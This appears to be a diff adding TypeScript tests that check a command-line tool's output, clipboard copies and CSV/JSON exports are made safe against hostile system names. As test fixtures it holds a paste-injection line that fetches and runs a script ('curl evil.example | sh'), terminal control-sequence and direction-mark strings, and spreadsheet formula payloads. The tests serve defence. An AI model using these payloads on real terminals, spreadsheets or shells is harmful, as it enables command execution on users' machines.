@@ -1,0 +1,108 @@
+/** What leaves the program, and can it act on a terminal, a spreadsheet or a shell? (hazards, N) */
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { expect, test } from 'vitest';
+import { aHome, runWithoutTerminalIn } from '../support/program.ts';
+import { aService, aSystem, onRequest } from '../support/service.ts';
+import { aUser, environmentFor, row } from '../support/user.ts';
+
+/** An 8-bit CSI that sets the title, an 8-bit OSC, DEL, a direction, a mark of format. */
+const hostile = 'web\u009b21t\u009d0;owned\u009c\u007f\u202e\u200b';
+const paste = 'web-1\rcurl evil.example | sh\n';
+
+const unsafe = /[\u007f-\u009f\u200b\u202e]/;
+
+const aHostileService = () =>
+  aService({
+    systems: [
+      aSystem({ hostname: hostile, description: ' =1+1', tags: [{ tag: '\t@SUM(A1)' }] }),
+      aSystem({ hostname: paste, systemId: 'ID-paste', description: '\u200b+1', connectedFrom: '\u00a0-1' }),
+    ],
+  });
+
+test('N5: JSON, CSV and table on a pipe hold no control of either set and none of direction; JSON keeps the value', async () => {
+  const service = await aHostileService();
+  const printed = async (format: string) => runWithoutTerminalIn(environmentFor(service), 'systems', format);
+  const json = await printed('--json');
+  expect(json.exitCode).toBe(0);
+  expect(json.output).not.toMatch(unsafe);
+  expect(json.output).toContain(String.raw`web\u009b21t\u009d0;owned\u009c\u007f\u202e\u200b`);
+  const names = (JSON.parse(json.output) as { hostname: string }[]).map(({ hostname }) => hostname);
+  expect(new Set(names)).toEqual(new Set([hostile, paste]));
+  for (const format of ['--csv', '--table']) {
+    const { output } = await printed(format);
+    expect(output).not.toMatch(unsafe);
+    expect(output).toContain('web‹U+009B›21t');
+    expect(output.replaceAll('\r\n', '\n')).not.toContain('\r');
+  }
+});
+
+test('N6: a cell of the CSV that shows nothing before = + - @ is text', async () => {
+  const service = await aHostileService();
+  const { output } = await runWithoutTerminalIn(environmentFor(service), 'systems', '--csv');
+  const rows = parse<Record<string, string>>(output, { columns: true });
+  const cells = rows.flatMap(({ description, tags, connectedFrom }) => [description, tags, connectedFrom]);
+  expect(cells).toEqual(expect.arrayContaining([`' =1+1`, `'␉@SUM(A1)`, `'‹U+200B›+1`, `'‹U+00A0›-1`]));
+});
+
+test('N5, N6: exported files and what is copied hold them made visible, and one line for each name', async () => {
+  const service = await aHostileService();
+  const home = aHome();
+  const user = aUser(service, { home });
+  await user.opens('Northwind');
+  await user.goesTo('curl');
+  user.presses('copy: name, id');
+  await user.sees(row('▸', 'name'));
+  user.presses('send it to your terminal');
+  await user.sees('Sent to your terminal: web-1␍curl');
+  expect(copied(user.terminal.raw())).toEqual(['web-1␍curl evil.example | sh␊']);
+  user.presses('mark all that match');
+  await user.sees('2 marked');
+  user.presses('copy: name, id');
+  await user.sees('names of the 2 marked');
+  user.presses('next', 4);
+  await user.sees(row('▸', 'names of the 2 marked'));
+  user.presses('send it to your terminal');
+  await user.sees('Sent to your terminal: 2 lines');
+  const names = copied(user.terminal.raw()).at(-1) ?? '';
+  expect(names.split('\n')).toHaveLength(3);
+  expect(names).not.toMatch(/[\r\u007f-\u009f\u200b\u202e]/);
+
+  user.presses('export to CSV and JSON');
+  await user.sees('the marked: 2 systems');
+  user.presses('write the marked');
+  await user.sees('Written:');
+  const files = readdirSync(home.path).filter((name) => name.startsWith('rollcall-systems-'));
+  expect(files).toHaveLength(2);
+  for (const file of files) expect(readFileSync(join(home.path, file), 'utf8')).not.toMatch(unsafe);
+});
+
+test('N6: a secret with characters that a shell acts on is not copied, and that is said', async () => {
+  const service = await aService({
+    systems: [aSystem({ hostname: 'web-1' })],
+    intercept: onRequest('POST', () => ({
+      status: 201,
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ id: 7, description: 'tills', key: 'abc\rcurl evil.example' }),
+    })),
+  });
+  const user = aUser(service);
+  await user.opens('Northwind');
+  user.presses('create an enrolment key');
+  await user.sees('description');
+  user.types('tills');
+  user.presses('create the key');
+  await user.sees('Enrolment key created');
+  user.presses('send the secret to the clipboard');
+  await user.sees('Not copied: the secret holds control or invisible characters. v shows it.');
+  expect(copied(user.terminal.raw())).toEqual([]);
+});
+
+/** What was sent to the terminal's clipboard, oldest first. */
+function copied(raw: string): string[] {
+  return raw
+    .split('\u001b]52;c;')
+    .slice(1)
+    .map((rest) => Buffer.from(rest.slice(0, rest.indexOf('\u0007')), 'base64').toString('utf8'));
+}
